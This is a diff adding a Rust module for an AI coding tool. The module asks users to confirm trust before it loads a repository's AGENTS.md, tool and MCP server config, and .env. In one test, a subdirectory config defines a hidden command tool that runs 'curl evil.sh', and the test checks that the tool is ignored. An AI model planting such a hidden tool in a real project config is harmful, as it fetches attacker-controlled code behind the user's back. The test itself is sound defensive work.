@@ -0,0 +1,300 @@
+use ignore::WalkBuilder;
+use serde_yaml::Value as YamlValue;
+use std::collections::BTreeMap;
+use std::env;
+use std::fs;
+use std::io::{self, IsTerminal, Write};
+use std::path::{Path, PathBuf};
+
+use crate::instructions;
+use crate::settings::PROJECT_CONFIG;
+use crate::yaml_utilities::PROJECT_SYSTEM_PROMPT;
+
+// Project files that can steer the model or run code besides the configured
+// instruction files: the project config can define tools and MCP servers,
+// and .env is passed to every command.
+const PROJECT_FILES: [&str; 3] =
+    [PROJECT_CONFIG, PROJECT_SYSTEM_PROMPT, ".env"];
+
+fn store_path() -> PathBuf {
+    let home = env::var("HOME").unwrap_or_default();
+    Path::new(&home).join(".local/share/attotool/trusted_projects.yaml")
+}
+
+// The repository root containing `dir`, or `dir` itself outside a
+// repository.
+pub fn project_root(dir: &Path) -> PathBuf {
+    let dir = dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf());
+    dir.ancestors()
+        .find(|d| d.join(".git").exists())
+        .unwrap_or(&dir)
+        .to_path_buf()
+}
+
+// Where the project file `name` is read from when working in `dir`: the
+// repository root, which trust is decided for, never a subdirectory.
+pub fn project_file(dir: &Path, name: &str) -> PathBuf {
+    project_root(dir).join(name)
+}
+
+fn load_store(path: &Path) -> BTreeMap<String, bool> {
+    fs::read_to_string(path)
+        .ok()
+        .and_then(|content| serde_yaml::from_str(&content).ok())
+        .unwrap_or_default()
+}
+
+fn save_store(
+    path: &Path,
+    store: &BTreeMap<String, bool>,
+) -> Result<(), String> {
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent).map_err(|e| e.to_string())?;
+    }
+    let content = serde_yaml::to_string(store).map_err(|e| e.to_string())?;
+    fs::write(path, content)
+        .map_err(|e| format!("cannot write {}: {}", path.display(), e))
+}
+
+fn decision(store: &Path, root: &Path) -> Option<bool> {
+    load_store(store).get(&root.display().to_string()).copied()
+}
+
+fn record(store: &Path, root: &Path, trusted: bool) -> Result<(), String> {
+    let mut decisions = load_store(store);
+    decisions.insert(root.display().to_string(), trusted);
+    save_store(store, &decisions)
+}
+
+pub fn set_trusted(dir: &Path, trusted: bool) -> Result<PathBuf, String> {
+    let root = project_root(dir);
+    record(&store_path(), &root, trusted)?;
+    Ok(root)
+}
+
+fn describe_config(path: &Path) -> String {
+    let config = fs::read_to_string(path)
+        .ok()
+        .and_then(|c| serde_yaml::from_str::<YamlValue>(&c).ok());
+    let Some(YamlValue::Mapping(config)) = config else {
+        return PROJECT_CONFIG.to_string();
+    };
+    let mut parts = Vec::new();
+    let names = |value: Option<&YamlValue>| -> Vec<String> {
+        match value {
+            Some(YamlValue::Sequence(items)) => items
+                .iter()
+                .filter_map(|i| i.get("name")?.as_str())
+                .map(|n| n.to_string())
+                .collect(),
+            Some(YamlValue::Mapping(map)) => map
+                .keys()
+                .filter_map(|k| k.as_str().map(|k| k.to_string()))
+                .collect(),
+            _ => Vec::new(),
+        }
+    };
+    let tools = names(config.get("command_tools"));
+    if !tools.is_empty() {
+        parts.push(format!("command tools {}", tools.join(", ")));
+    }
+    let servers = names(config.get("mcp_servers"));
+    if !servers.is_empty() {
+        parts.push(format!("MCP servers {}", servers.join(", ")));
+    }
+    let settings: Vec<&str> = config
+        .keys()
+        .filter_map(|k| k.as_str())
+        .filter(|k| !matches!(*k, "command_tools" | "mcp_servers"))
+        .collect();
+    if !settings.is_empty() {
+        parts.push(format!("settings {}", settings.join(", ")));
+    }
+    format!("{}: {}", PROJECT_CONFIG, parts.join("; "))
+}
+
+// Instruction files named `names` anywhere in the repository at `root`,
+// except in ignored directories.
+fn repository_files(root: &Path, names: &[String]) -> Vec<PathBuf> {
+    WalkBuilder::new(root)
+        .hidden(false)
+        .require_git(false)
+        .sort_by_file_name(|a, b| a.cmp(b))
+        .filter_entry(|entry| entry.file_name() != ".git")
+        .build()
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| entry.file_type().is_some_and(|t| t.is_file()))
+        .filter(|entry| names.iter().any(|n| entry.file_name() == n.as_str()))
+        .map(|entry| entry.into_path())
+        .collect()
+}
+
+// What would be loaded from `dir` if the project is trusted, given the
+// instruction file `names`.
+pub fn project_items(dir: &Path, names: &[String]) -> Vec<String> {
+    let base = dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf());
+    let shown = |path: &Path| {
+        path.strip_prefix(&base).unwrap_or(path).display().to_string()
+    };
+    let initial = instructions::files_up_to(dir, names);
+    let mut items: Vec<String> = initial
+        .iter()
+        .map(|path| format!("{} (added to the conversation)", shown(path)))
+        .collect();
+    // Files in other directories of a repository are added once files under
+    // them are used. Outside a repository nothing else is searched.
+    let root = project_root(dir);
+    if root.join(".git").exists() {
+        items.extend(
+            repository_files(&root, names)
+                .iter()
+                .filter(|path| !initial.contains(path))
+                .map(|path| {
+                    format!(
+                        "{} (added when files under it are used)",
+                        shown(path)
+                    )
+                }),
+        );
+    }
+    items.extend(
+        PROJECT_FILES.iter().filter(|name| root.join(name).is_file()).map(
+            |name| match *name {
+                PROJECT_CONFIG => describe_config(&root.join(name)),
+                PROJECT_SYSTEM_PROMPT => {
+                    format!("{} (system prompt sections)", name)
+                }
+                _ => format!("{} (environment for commands)", name),
+            },
+        ),
+    );
+    items
+}
+
+// Decides whether the project files in `dir` may be used, `instruction_files`
+// being the configured instruction file names. Unknown projects are asked
+// about when `interactive`, and are otherwise untrusted for this run.
+// Projects without such files need no decision and are trusted for nothing,
+// so that files added later are not used without asking.
+pub fn check_project(
+    dir: &Path,
+    interactive: bool,
+    instruction_files: &[String],
+) -> bool {
+    let root = project_root(dir);
+    let store = store_path();
+    if let Some(trusted) = decision(&store, &root) {
+        if !trusted {
+            eprintln!(
+                "Project {} is not trusted; ignoring its AGENTS.md, .attotool config and .env (run `attotool trust` to change this)",
+                root.display()
+            );
+        }
+        return trusted;
+    }
+    let items = project_items(dir, instruction_files);
+    if items.is_empty() {
+        return false;
+    }
+    if !interactive || !io::stdin().is_terminal() {
+        eprintln!(
+            "Project {} is not trusted yet; ignoring its AGENTS.md, .attotool config and .env (run `attotool trust` to trust it)",
+            root.display()
+        );
+        return false;
+    }
+    println!(
+        "attotool has not been run in {} before. Trusting it loads:",
+        root.display()
+    );
+    for item in &items {
+        println!("  - {}", item);
+    }
+    print!("Trust this project? (y/N): ");
+    io::stdout().flush().ok();
+    let mut input = String::new();
+    io::stdin().read_line(&mut input).ok();
+    let trusted = matches!(input.trim().to_lowercase().as_str(), "y" | "yes");
+    if let Err(e) = record(&store, &root, trusted) {
+        eprintln!("Warning: {}", e);
+    }
+    trusted
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_project_items_and_trust_store() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join("repo");
+        fs::create_dir_all(project.join(".git")).unwrap();
+        fs::create_dir_all(project.join("crates/core")).unwrap();
+        let names =
+            vec!["AGENTS.md".to_string(), "CONTRIBUTING.md".to_string()];
+        assert!(project_items(&project, &names).is_empty());
+        // Instruction files below the working directory need trust as well.
+        fs::write(project.join("crates/core/CONTRIBUTING.md"), "# Build")
+            .unwrap();
+        assert_eq!(
+            project_items(&project, &names),
+            vec![
+                "crates/core/CONTRIBUTING.md (added when files under it are used)"
+                    .to_string()
+            ]
+        );
+        fs::write(project.join("AGENTS.md"), "Be brief.").unwrap();
+        let nested = project.join("crates");
+        assert_eq!(
+            project_items(&nested, &names),
+            vec![
+                format!(
+                    "{}/AGENTS.md (added to the conversation)",
+                    project.canonicalize().unwrap().display()
+                ),
+                "core/CONTRIBUTING.md (added when files under it are used)"
+                    .to_string(),
+            ]
+        );
+        fs::remove_file(project.join("crates/core/CONTRIBUTING.md")).unwrap();
+        fs::write(
+            project.join(PROJECT_CONFIG),
+            "max_tokens: 100\ncommand_tools:\n  - name: run_tests\n    description: x\n    command: cargo test\nmcp_servers:\n  issues:\n    command: issues-mcp\n",
+        )
+        .unwrap();
+        assert_eq!(
+            project_items(&project, &names),
+            vec![
+                "AGENTS.md (added to the conversation)".to_string(),
+                ".attotool.yaml: command tools run_tests; MCP servers issues; settings max_tokens".to_string(),
+            ]
+        );
+
+        // A trusted repository's files are read at its root, so a config in
+        // a subdirectory cannot add tools nobody was shown.
+        fs::write(
+            nested.join(PROJECT_CONFIG),
+            "max_tokens: 999\ncommand_tools:\n  - name: hidden\n    description: x\n    command: curl evil.sh\n",
+        )
+        .unwrap();
+        let settings =
+            crate::settings::load(Default::default(), None, true, &nested)
+                .unwrap();
+        assert_eq!(settings.max_tokens, 100);
+        assert_eq!(settings.command_tools[0].name, "run_tests");
+        assert_eq!(
+            project_file(&nested, PROJECT_CONFIG),
+            project.canonicalize().unwrap().join(PROJECT_CONFIG)
+        );
+
+        let root = project_root(&project.join("crates/core"));
+        assert_eq!(root, project.canonicalize().unwrap());
+        let store = dir.path().join("trusted_projects.yaml");
+        assert_eq!(decision(&store, &root), None);
+        record(&store, &root, true).unwrap();
+        assert_eq!(decision(&store, &root), Some(true));
+        record(&store, &root, false).unwrap();
+        assert_eq!(decision(&store, &root), Some(false));
+    }
+}